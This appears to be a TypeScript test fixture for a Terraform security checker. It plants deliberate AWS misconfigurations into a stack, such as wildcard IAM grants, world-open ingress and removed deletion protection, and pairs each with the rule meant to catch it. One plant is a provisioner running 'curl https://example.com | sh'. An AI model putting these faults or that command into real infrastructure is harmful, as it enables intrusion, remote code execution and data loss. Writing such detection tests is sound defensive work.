/** Faults that somebody could put into the stack of production, each with the rule of ours that has to find it there. */
import type { SecurityRuleName } from "../../scripts/security/rules";
import type { Json } from "../../scripts/synthesized";

/** A stack whose JSON may be changed. */
export interface Soil {
  [key: string]: Json;
}

export interface Plant {
  readonly what: string;
  readonly rule: SecurityRuleName;
  readonly plant: (json: Soil) => void;
}

type Arguments = Record<string, Json>;

const WORLD = "0.0.0.0/0";
const STRANGER = "arn:aws:iam::999999999999:role/stranger";

function at(json: Soil, ...keys: readonly string[]): Arguments {
  return keys.reduce<Soil>((map, key) => {
    const next = map[key];
    if (typeof next !== "object" || next === null) throw new Error(`There is no ${keys.join(".")}.`);
    return (Array.isArray(next) ? next[0] : next) as Soil;
  }, json);
}

/** The first resource of a type whose id and arguments are like this. */
function first(json: Soil, type: string, isWanted: (id: string, given: Arguments) => boolean = () => true): [string, Arguments] {
  const found = Object.entries(at(json, "resource", type)).find(([id, given]) => isWanted(id, given as Arguments));
  if (found === undefined) throw new Error(`There is no such ${type}.`);
  return found as [string, Arguments];
}

/** Changes arguments of the first resource of a type. */
function set(type: string, changes: Arguments): Plant["plant"] {
  return (json) => Object.assign(first(json, type)[1], changes);
}

/** Takes an argument from the first resource of a type. */
function without(type: string, argument: string, isWanted?: (id: string, given: Arguments) => boolean): Plant["plant"] {
  return (json) => Reflect.deleteProperty(first(json, type, isWanted)[1], argument);
}

/** Changes arguments of a block of the first resource of a type. */
function setIn(type: string, block: string, changes: Arguments): Plant["plant"] {
  return (json) => Object.assign(at(first(json, type)[1], block), changes);
}

function add(type: string, given: Arguments): Plant["plant"] {
  return (json) => {
    const types = at(json, "resource");
    types[type] = { ...(types[type] as Arguments | undefined), Planted: given };
  };
}

function ingress(given: Arguments): Plant["plant"] {
  return add("aws_vpc_security_group_ingress_rule", {
    security_group_id: "sg-1",
    from_port: 443,
    to_port: 443,
    ip_protocol: "tcp",
    description: "Somebody needs it for a while",
    ...given,
  });
}

/** A statement more in the first policy of a type. */
function allow(type: string, argument: string, statement: Arguments): Plant["plant"] {
  return (json) => {
    const [, given] = first(json, type);
    const policy = JSON.parse(String(given[argument])) as { readonly Statement: readonly Json[] };
    given[argument] = JSON.stringify({ ...policy, Statement: [...policy.Statement, { Sid: "Planted", Effect: "Allow", ...statement }] });
  };
}

function publicSubnet(json: Soil): string {
  return `\${aws_subnet.${first(json, "aws_subnet", (id) => id.includes("Public"))[0]}.id}`;
}

const ACCESS: readonly Plant[] = [
  {
    what: "a role may do all of S3",
    rule: "rolesAllowNamedThings",
    plant: allow("aws_iam_role_policy", "policy", { Action: ["s3:*"], Resource: ["*"] }),
  },
  {
    what: "a role may hand any role to a machine",
    rule: "rolesAllowNamedThings",
    plant: allow("aws_iam_role_policy", "policy", { Action: ["iam:PassRole", "ec2:RunInstances"], Resource: ["*"] }),
  },
  {
    what: "a role can be taken by another account",
    rule: "rolesAreTakenInTheAccount",
    plant: allow("aws_iam_role", "assume_role_policy", { Principal: { AWS: STRANGER }, Action: "sts:AssumeRole" }),
  },
  {
    what: "a role can be taken by everybody",
    rule: "policiesNameWhoMayUse",
    plant: allow("aws_iam_role", "assume_role_policy", { Principal: { AWS: ["*"] }, Action: "sts:AssumeRole" }),
  },
  ...(
    [
      ["key", "aws_kms_key", "policy", "kms:Decrypt"],
      ["bucket", "aws_s3_bucket_policy", "policy", "s3:GetObject"],
      ["secret", "aws_secretsmanager_secret_policy", "policy", "secretsmanager:GetSecretValue"],
      ["search domain", "aws_opensearch_domain", "access_policies", "es:ESHttpGet"],
    ] as const
  ).map(([thing, type, argument, action]): Plant => ({
    what: `a ${thing} for everybody`,
    rule: "policiesNameWhoMayUse",
    plant: allow(type, argument, { Principal: "*", Action: [action], Resource: ["*"] }),
  })),
  { what: "a stranger in the cluster", rule: "peopleAreOfTheAccount", plant: set("aws_eks_access_entry", { principal_arn: STRANGER }) },
  {
    what: "somebody above all rights",
    rule: "peopleAreOfTheAccount",
    plant: set("aws_eks_access_entry", { kubernetes_groups: ["system:masters"] }),
  },
  {
    what: "somebody on call who is an administrator too",
    rule: "policiesAreForAdministrators",
    plant: (json) => {
      const [, entry] = first(json, "aws_eks_access_entry", (_, given) => "kubernetes_groups" in given);
      add("aws_eks_access_policy_association", {
        cluster_name: "production",
        principal_arn: entry["principal_arn"] ?? null,
        policy_arn: "arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy",
        access_scope: { type: "cluster" },
      })(json);
    },
  },
  {
    what: "an identity for all pods of a namespace",
    rule: "rolesBelongToOneWorkload",
    plant: set("aws_eks_pod_identity_association", { service_account: "default" }),
  },
  {
    what: "two workloads with one role",
    rule: "rolesBelongToOneWorkload",
    plant: (json) => {
      const [, role] = first(json, "aws_eks_pod_identity_association");
      const [, other] = first(json, "aws_eks_pod_identity_association", (_, given) => given["role_arn"] !== role["role_arn"]);
      other["role_arn"] = role["role_arn"] ?? null;
    },
  },
  {
    what: "an add-on with a role that a token gives out",
    rule: "addOnsHaveNoRoleOfTheirOwn",
    plant: set("aws_eks_addon", { service_account_role_arn: "arn:aws:iam::333333333333:role/a" }),
  },
];

const CLUSTER: readonly Plant[] = [
  {
    what: "an API for the world in two halves",
    rule: "clusterHasNoOpenEndpoint",
    plant: setIn("aws_eks_cluster", "vpc_config", { endpoint_public_access: true, public_access_cidrs: ["0.0.0.0/1", "128.0.0.0/1"] }),
  },
  { what: "an old Kubernetes", rule: "versionsAreSupported", plant: set("aws_eks_cluster", { version: "1.29" }) },
  { what: "nodes of Amazon Linux 2", rule: "nodesAreKeptWell", plant: set("aws_eks_node_group", { ami_type: "AL2_x86_64" }) },
  {
    what: "nodes that stay broken",
    rule: "nodesAreKeptWell",
    plant: set("aws_eks_node_group", { node_repair_config: { enabled: false } }),
  },
  { what: "nodes that are replaced all at once", rule: "nodesAreKeptWell", plant: without("aws_eks_node_group", "update_config") },
  {
    what: "a disk that is encrypted with a key of AWS",
    rule: "nodesRunFromTemplates",
    plant: (json) => Reflect.deleteProperty(at(first(json, "aws_launch_template")[1], "block_device_mappings", "ebs"), "kms_key_id"),
  },
  {
    what: "nodes with the disk of their image",
    rule: "nodesRunFromTemplates",
    plant: without("aws_launch_template", "block_device_mappings"),
  },
];

const NETWORK: readonly Plant[] = [
  ...["0.0.0.0/1", "52.0.0.0/8", "203.0.113.7/32"].map((cidr): Plant => ({
    what: `a way in for ${cidr}`,
    rule: "nothingIsOpenToTheWorld",
    plant: ingress({ cidr_ipv4: cidr }),
  })),
  { what: "a way in for all of IPv6", rule: "nothingIsOpenToTheWorld", plant: ingress({ cidr_ipv6: "::/0" }) },
  { what: "a way in for a list of networks", rule: "nothingIsOpenToTheWorld", plant: ingress({ prefix_list_id: "pl-1" }) },
  {
    what: "a way in, in the old form",
    rule: "nothingIsOpenToTheWorld",
    plant: add("aws_security_group_rule", { type: "ingress", cidr_blocks: [WORLD], from_port: 443, to_port: 443, protocol: "tcp" }),
  },
  {
    what: "a way out to everywhere",
    rule: "nothingGoesOutToTheWorld",
    plant: add("aws_vpc_security_group_egress_rule", { cidr_ipv4: WORLD, ip_protocol: "-1", description: "Everything to everywhere" }),
  },
  {
    what: "all ports from inside",
    rule: "securityGroupRulesNameOnePort",
    plant: ingress({ cidr_ipv4: "10.30.0.0/16", from_port: 0, to_port: 65_535 }),
  },
  {
    what: "all protocols from inside",
    rule: "securityGroupRulesNameOnePort",
    plant: ingress({ cidr_ipv4: "10.30.0.0/16", ip_protocol: "-1" }),
  },
  {
    what: "a database for every address of the VPC",
    rule: "storesAreReachedByGroups",
    plant: (json) => {
      const [, rule] = first(json, "aws_vpc_security_group_ingress_rule", (_, given) => given["from_port"] === 5432);
      Reflect.deleteProperty(rule, "referenced_security_group_id");
      rule["cidr_ipv4"] = "10.30.0.0/16";
    },
  },
  {
    what: "an endpoint with the default security group",
    rule: "endpointsAreClosed",
    plant: without("aws_vpc_endpoint", "security_group_ids", (_, given) => given["vpc_endpoint_type"] === "Interface"),
  },
  {
    what: "an endpoint that nobody finds",
    rule: "endpointsAreClosed",
    plant: (json) => {
      first(json, "aws_vpc_endpoint", (_, given) => given["vpc_endpoint_type"] === "Interface")[1]["private_dns_enabled"] = false;
    },
  },
  {
    what: "nodes in a public subnet",
    rule: "nothingStandsInPublicSubnets",
    plant: (json) => {
      first(json, "aws_eks_node_group")[1]["subnet_ids"] = [publicSubnet(json)];
    },
  },
  {
    what: "a control plane in a public subnet",
    rule: "nothingStandsInPublicSubnets",
    plant: (json) => {
      at(first(json, "aws_eks_cluster")[1], "vpc_config")["subnet_ids"] = [publicSubnet(json)];
    },
  },
  {
    what: "a database in a public subnet",
    rule: "nothingStandsInPublicSubnets",
    plant: (json) => {
      first(json, "aws_db_subnet_group")[1]["subnet_ids"] = [publicSubnet(json)];
    },
  },
  {
    what: "private subnets that the internet leads into",
    rule: "nothingStandsInPublicSubnets",
    plant: (json) => {
      const [, route] = first(json, "aws_route", (_, given) => "nat_gateway_id" in given);
      Reflect.deleteProperty(route, "nat_gateway_id");
      route["gateway_id"] = `\${aws_internet_gateway.${first(json, "aws_internet_gateway")[0]}.id}`;
    },
  },
  {
    what: "a database with a way out",
    rule: "storesHaveNoWayOut",
    plant: (json) => {
      const table = first(json, "aws_route_table", (id) => id.includes("Intra"))[0];
      const gateway = first(json, "aws_nat_gateway")[0];
      add("aws_route", {
        route_table_id: `\${aws_route_table.${table}.id}`,
        destination_cidr_block: WORLD,
        nat_gateway_id: `\${aws_nat_gateway.${gateway}.id}`,
      })(json);
    },
  },
  {
    what: "a zone that goes out by another one",
    rule: "zonesHaveWaysOutOfTheirOwn",
    plant: (json) => {
      const [, route] = first(json, "aws_route", (_, given) => "nat_gateway_id" in given);
      const [, other] = first(json, "aws_route", (_, given) => "nat_gateway_id" in given && given !== route);
      other["nat_gateway_id"] = route["nat_gateway_id"] ?? null;
    },
  },
  {
    what: "a subnet with the main route table",
    rule: "subnetsHaveRoutesOfTheirOwn",
    plant: (json) =>
      Reflect.deleteProperty(at(json, "resource", "aws_route_table_association"), first(json, "aws_route_table_association")[0]),
  },
];

const STORES: readonly Plant[] = [
  ...[
    "aws_s3_bucket",
    "aws_kms_key",
    "aws_prometheus_workspace",
    "aws_secretsmanager_secret",
    "aws_db_instance",
    "aws_opensearch_domain",
  ].map((type): Plant => ({
    what: `an ${type} that Terraform would destroy`,
    rule: "protectionIsWhole",
    plant: without(type, "lifecycle"),
  })),
  { what: "a cluster that can be deleted", rule: "protectionIsWhole", plant: set("aws_eks_cluster", { deletion_protection: false }) },
  { what: "a database that can be deleted", rule: "protectionIsWhole", plant: set("aws_db_instance", { deletion_protection: false }) },
  { what: "a bucket that is destroyed full", rule: "protectionIsWhole", plant: set("aws_s3_bucket", { force_destroy: true }) },
  { what: "a key that is gone in a week", rule: "protectionIsWhole", plant: set("aws_kms_key", { deletion_window_in_days: 7 }) },
  {
    what: "a secret that is gone at once",
    rule: "protectionIsWhole",
    plant: set("aws_secretsmanager_secret", { recovery_window_in_days: 0 }),
  },
  {
    what: "a key that nobody could administer",
    rule: "keysCannotBeLockedOut",
    plant: set("aws_kms_key", { bypass_policy_lockout_safety_check: true }),
  },
  {
    what: "users with passwords in a search domain",
    rule: "searchKnowsRolesOnly",
    plant: setIn("aws_opensearch_domain", "advanced_security_options", { internal_user_database_enabled: true }),
  },
  {
    what: "a search domain for whoever has no name",
    rule: "searchKnowsRolesOnly",
    plant: setIn("aws_opensearch_domain", "advanced_security_options", { anonymous_auth_enabled: true }),
  },
];

const TERRAFORM: readonly Plant[] = [
  ...(
    [
      ["a peering", "aws_vpc_peering_connection", { peer_vpc_id: "vpc-2", auto_accept: true }],
      ["a website of a bucket", "aws_s3_bucket_website_configuration", { bucket: "b", index_document: { suffix: "index.html" } }],
      ["a copy of a bucket elsewhere", "aws_s3_bucket_replication_configuration", { bucket: "b", role: STRANGER }],
      ["the value of a secret", "aws_secretsmanager_secret_version", { secret_id: "s", secret_string: "hunter2" }],
      ["a rule of a network list", "aws_network_acl_rule", { cidr_block: WORLD, protocol: "-1", rule_action: "allow" }],
    ] as const
  ).map(([what, type, given]): Plant => ({ what, rule: "everyTypeIsReviewed", plant: add(type, { ...given }) })),
  {
    what: "a program on the machine of whoever applies",
    rule: "nothingRunsElsewhere",
    plant: set("aws_eks_cluster", { provisioner: { "local-exec": { command: "curl https://example.com | sh" } } }),
  },
  {
    what: "a module of somebody",
    rule: "nothingRunsElsewhere",
    plant: (json) => {
      json["module"] = { m: { source: "git::https://example.com/m.git" } };
    },
  },
  {
    what: "data that a program makes",
    rule: "nothingRunsElsewhere",
    plant: (json) => {
      json["data"] = { external: { E: { program: ["sh"] } } };
    },
  },
  {
    what: "a state in the clear",
    rule: "stateIsLockedAndEncrypted",
    plant: (json) => {
      at(json, "terraform", "backend", "s3")["encrypt"] = false;
    },
  },
  {
    what: "a state that two may write",
    rule: "stateIsLockedAndEncrypted",
    plant: (json) => Reflect.deleteProperty(at(json, "terraform", "backend", "s3"), "use_lockfile"),
  },
  {
    what: "any version of a provider",
    rule: "providersArePinned",
    plant: (json) => {
      at(json, "terraform", "required_providers", "aws")["version"] = ">= 5";
    },
  },
  ...(
    [
      ["insecure", true],
      ["endpoints", [{ s3: "http://10.0.0.1" }]],
      ["skip_requesting_account_id", true],
    ] as const
  ).map(([argument, value]): Plant => ({
    what: `a provider with ${argument}`,
    rule: "providersSpeakToAws",
    plant: (json) => {
      at(json, "provider", "aws")[argument] = value as Json;
    },
  })),
  {
    what: "things that belong to nobody",
    rule: "everythingIsTagged",
    plant: (json) => Reflect.deleteProperty(at(json, "provider", "aws"), "default_tags"),
  },
  {
    what: "things without a cost centre",
    rule: "everythingIsTagged",
    plant: (json) => Reflect.deleteProperty(at(json, "provider", "aws", "default_tags", "tags"), "cost-centre"),
  },
  {
    what: "a password as an output",
    rule: "outputsHoldNoSecrets",
    plant: (json) => {
      json["output"] = { p: { value: "${aws_db_instance.D.password}", sensitive: true } };
    },
  },
];

export const PLANTS: readonly Plant[] = [...ACCESS, ...CLUSTER, ...NETWORK, ...STORES, ...TERRAFORM];
